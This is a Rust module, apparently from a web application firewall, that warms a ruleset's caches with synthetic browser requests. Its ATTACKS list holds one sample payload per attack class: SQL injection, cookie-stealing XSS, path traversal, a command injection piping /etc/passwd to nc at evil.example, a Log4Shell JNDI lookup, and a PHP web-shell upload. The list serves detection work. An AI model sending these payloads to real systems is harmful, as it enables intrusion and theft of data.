//! Requests that nobody sent: what they leave behind makes the first real one as fast as the thousandth.
//!
//! The automata that are too large to be built whole build their states as texts need them, and the state of a transaction
//! grows to the size that requests have. Everyday requests at load have that done, and so do attacks, whose rules no
//! everyday request comes near; every thread starts with a copy.

use std::time::SystemTime;

use crate::ruleset::Ruleset;

/// What browsers and programs say of themselves, each with its own letters.
const CLIENTS: &[&[(&str, &str)]] = &[
    &[
        (
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8",
        ),
        ("Accept-Language", "en-US,en;q=0.9,fr;q=0.8"),
        ("Accept-Encoding", "gzip, deflate, br, zstd"),
        (
            "Sec-Ch-Ua",
            "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
        ),
        ("Sec-Ch-Ua-Platform", "\"Windows\""),
        ("Sec-Fetch-Dest", "document"),
        ("Sec-Fetch-Mode", "navigate"),
        ("Sec-Fetch-Site", "same-origin"),
        (
            "Referer",
            "https://www.example.com/catalogue/sale?page=1&order=price_asc#top",
        ),
        (
            "Cookie",
            "session=5f4dcc3b5aa765d61d8327deb882cf99; theme=dark; lang=en-US; consent=1; seen=1718000000; \
             _ga=GA1.2.1093847562.1718000000",
        ),
    ],
    &[
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
        ),
        (
            "Accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("Accept-Language", "de-DE,de;q=0.8,en-GB;q=0.5,en;q=0.3"),
        ("Accept-Encoding", "gzip, deflate, br"),
        ("Upgrade-Insecure-Requests", "1"),
        ("If-Modified-Since", "Mon, 03 Jun 2024 07:28:51 GMT"),
        (
            "Cookie",
            "sid=s%3AqX0vJ8kZpYwRbTnM.h7Gd2LcEfUiOaWsQxKjV; cart=42-7; currency=GBP; ab_test=B",
        ),
    ],
    &[
        (
            "User-Agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 \
             Mobile/15E148 Safari/604.1",
        ),
        ("Accept", "*/*"),
        ("Accept-Language", "ja-JP"),
        ("Origin", "https://shop.example.co.uk"),
        (
            "Authorization",
            "Bearer eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiI5MDEyIn0.dGhlIHF1aWNrIGJyb3duIGZveA",
        ),
    ],
    &[
        ("User-Agent", "okhttp/4.12.0"),
        ("Accept", "application/json, text/plain"),
        ("X-Request-Id", "0f8fad5b-d9cb-469f-a165-70867728950e"),
        (
            "Traceparent",
            "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01",
        ),
    ],
];

const FORM: &str = "application/x-www-form-urlencoded";
const JSON: &str = "application/json";

const REQUESTS: &[(&str, &str, &str, &str)] = &[
    (
        "GET",
        "/search?q=warm+winter+coat&page=2&order=price&max=100&size=x-large&brand=J%C3%B8rgen",
        "",
        "",
    ),
    (
        "GET",
        "/assets/js/vendor.9f3c1d2b.chunk.js?v=1.7.20",
        "",
        "",
    ),
    (
        "GET",
        "/blog/2024/06/how-we-quickly-fixed-5-lazy-jackets?utm_source=newsletter&utm_campaign=july",
        "",
        "",
    ),
    (
        "POST",
        "/address",
        FORM,
        "name=John+O%27Smith&street=4+Long+Road&city=Leeds&email=john.s%40example.com&phone=%2B44+113+496+0000\
         &note=Please+ring+twice%2C+thank+you%21+The+quick+brown+fox+jumps+over+the+lazy+dog.",
    ),
    (
        "POST",
        "/orders",
        JSON,
        r#"{"id":17,"lines":[{"sku":"AB-12","count":2,"gift":false,"note":"As a present"}],"total":"19.99","currency":"EUR",
            "placed":"2024-06-03T07:28:51Z","ship_to":{"zip":"SW1A 1AA","country":"GB"},"coupon":null}"#,
    ),
];

/// One of each kind that the rules know, as plain as they come: what is asked of a detailed look at them.
const ATTACKS: &[(&str, &str, &str, &str)] = &[
    (
        "GET",
        "/items?id=1%27%20UNION%20SELECT%20name,password%20FROM%20users--%20-",
        "",
        "",
    ),
    (
        "GET",
        "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
        "",
        "",
    ),
    ("GET", "/get?file=../../../../etc/passwd", "", ""),
    (
        "GET",
        "/run?cmd=%3Bcat%20/etc/passwd%7Cnc%20evil.example%2080",
        "",
        "",
    ),
    ("GET", "/?x=${jndi:ldap://evil.example/a}", "", ""),
    (
        "POST",
        "/upload",
        FORM,
        "code=%3C%3Fphp+system%28%24_GET%5B0%5D%29%3B+%3F%3E&user=admin%27+OR+%271%27%3D%271",
    ),
];

/// Makes ready what so many threads use at once.
pub(crate) fn warm(rules: &Ruleset, sets: usize) {
    let shared = &rules.shared;
    let mut states = Vec::with_capacity(sets);
    for set in 0..sets {
        for client in CLIENTS {
            // One set of caches is filled with everything, and copied; the states only have to grow.
            let requests = REQUESTS.iter().chain(if set == 0 { ATTACKS } else { &[] });
            for request in requests {
                send(rules, client, request);
            }
            if set > 0 {
                break;
            }
        }
        // Out of the way, so that the next requests make a state of their own.
        states.extend(shared.states.take());
    }
    for state in states {
        shared.states.give_back(state);
    }
    let scratch = shared.scratch();
    for _ in 1..sets {
        shared.scratches.give_back(scratch.clone());
    }
    shared.scratches.give_back(scratch);
}

fn send(
    rules: &Ruleset,
    client: &[(&str, &str)],
    (method, uri, kind, body): &(&str, &str, &str, &str),
) {
    let mut tx = rules.transaction(SystemTime::UNIX_EPOCH);
    tx.request_line(method.as_bytes(), uri.as_bytes(), b"HTTP/1.1");
    tx.request_header(b"Host", b"www.example.com");
    for (name, value) in client {
        tx.request_header(name.as_bytes(), value.as_bytes());
    }
    tx.request_header(b"Connection", b"keep-alive");
    if !kind.is_empty() {
        tx.request_header(b"Content-Type", kind.as_bytes());
        tx.request_header(b"Content-Length", body.len().to_string().as_bytes());
    }
    tx.end_request_headers();
    tx.request_body(body.as_bytes());
    tx.end_request_body();
    tx.response_line(200, b"HTTP/1.1");
    tx.response_header(b"Content-Type", b"text/html");
    tx.end_response_headers();
    tx.response_body(
        b"<!DOCTYPE html><html><body><h1>Welcome</h1><p>It is good to see you.</p></body></html>",
    );
    tx.end_response_body();
    tx.finish();
}
